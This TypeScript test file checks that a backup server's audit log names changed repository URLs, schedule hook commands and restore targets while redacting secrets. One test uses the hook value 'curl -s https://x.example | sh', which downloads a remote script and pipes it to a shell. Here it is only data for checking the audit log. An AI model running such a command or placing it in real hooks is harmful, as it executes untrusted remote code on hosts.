import { afterEach, beforeEach, expect, test } from "bun:test";
import { startTestServer, type TestServer } from "../testing/harness.ts";

// The audit log said `fields: ["pre_hook"]` but never the command, not where a restore went, and
// not a config's new repo_url (issue 13). It now names them, and still never a secret.

let t: TestServer;
beforeEach(async () => {
  t = await startTestServer();
});
afterEach(async () => {
  await t.close();
});

/** The newest audit entry of an action. */
async function lastEntry(action: string) {
  const items = (await t.json("/api/v1/audit-log")).body.items as Array<{ action: string; detail: unknown }>;
  return items.find((e) => e.action === action);
}

test("a config change names the new repository URL (and the one before), never a password", async () => {
  const h = await t.enroll();
  await t.json(`/api/v1/hosts/${h.host_id}/config`, {
    method: "PUT",
    body: { repo_url: "/srv/restic/web-01", repo_password: "hunter2-secret" },
  });
  const put = await t.json(`/api/v1/hosts/${h.host_id}/config`, {
    method: "PUT",
    body: {
      repo_url: "rest:https://ops:url-secret@backup.example.com/web-01",
      repo_username: "ops",
      repo_credential: "credential-secret",
      hook_shell: "/bin/bash",
    },
  });
  expect(put.status).toBe(200);
  const entry = await lastEntry("host.config");
  expect(entry?.detail).toEqual({
    fields: ["repo_url", "repo_username", "repo_credential", "hook_shell"],
    repo_url: "rest:https://***@backup.example.com/web-01",
    previous_repo_url: "/srv/restic/web-01",
    repo_username: "ops",
    hook_shell: "/bin/bash",
  });
  const all = JSON.stringify((await t.json("/api/v1/audit-log")).body);
  for (const secret of ["hunter2-secret", "url-secret", "credential-secret"]) expect(all).not.toContain(secret);
});

test("a schedule's audit entries name its hook commands, on create and on change", async () => {
  const h = await t.enroll();
  const s = await t.json(`/api/v1/hosts/${h.host_id}/schedules`, {
    method: "POST",
    body: { kind: "backup", cron_expr: "0 2 * * *", paths: ["/srv"], pre_hook: "pg_dump app > /srv/app.sql" },
  });
  expect(await lastEntry("schedule.create")).toMatchObject({
    detail: {
      host_id: h.host_id,
      kind: "backup",
      cron_expr: "0 2 * * *",
      paths: ["/srv"],
      pre_hook: "pg_dump app > /srv/app.sql",
    },
  });
  await t.json(`/api/v1/schedules/${s.body.id}`, {
    method: "PATCH",
    body: { pre_hook: "curl -s https://x.example | sh" },
  });
  const entry = await lastEntry("schedule.update");
  expect(entry?.detail).toEqual({
    host_id: h.host_id,
    fields: ["pre_hook"],
    pre_hook: "curl -s https://x.example | sh",
    before: { pre_hook: "pg_dump app > /srv/app.sql" },
  });
  // Clearing a hook says so.
  await t.json(`/api/v1/schedules/${s.body.id}`, { method: "PATCH", body: { pre_hook: "", enabled: false } });
  expect((await lastEntry("schedule.update"))?.detail).toEqual({
    host_id: h.host_id,
    fields: ["pre_hook", "enabled"],
    pre_hook: null,
    enabled: false,
    before: { pre_hook: "curl -s https://x.example | sh", enabled: true },
  });
});

test("a restore's audit entry says what was restored, where to, and from which host", async () => {
  const target = await t.enroll("web-01");
  const source = await t.enroll("db-01");
  for (const id of [target.host_id, source.host_id]) {
    await t.json(`/api/v1/hosts/${id}/config`, { method: "PUT", body: { repo_url: "/srv/restic/shared" } });
  }
  const job = await t.json(`/api/v1/hosts/${target.host_id}/jobs`, {
    method: "POST",
    body: {
      kind: "restore",
      spec: { snapshot_id: "latest", target: "/var/tmp/restore", include: ["/etc"], source_host_id: source.host_id },
    },
  });
  expect(job.status).toBe(201);
  const entry = await lastEntry("job.run");
  expect(entry?.detail).toEqual({
    host_id: target.host_id,
    kind: "restore",
    spec: { snapshot_id: "latest", target: "/var/tmp/restore", include: ["/etc"], source_host: "db-01" },
    source_host_id: source.host_id,
  });
  // A backup run-now names its paths and hook commands.
  await t.json(`/api/v1/hosts/${target.host_id}/jobs`, {
    method: "POST",
    body: { kind: "backup", spec: { paths: ["/srv"], post_hook: "systemctl start app" } },
  });
  expect((await lastEntry("job.run"))?.detail).toMatchObject({
    kind: "backup",
    args: ["/srv"],
    spec: { paths: ["/srv"], post_hook: "systemctl start app" },
  });
});
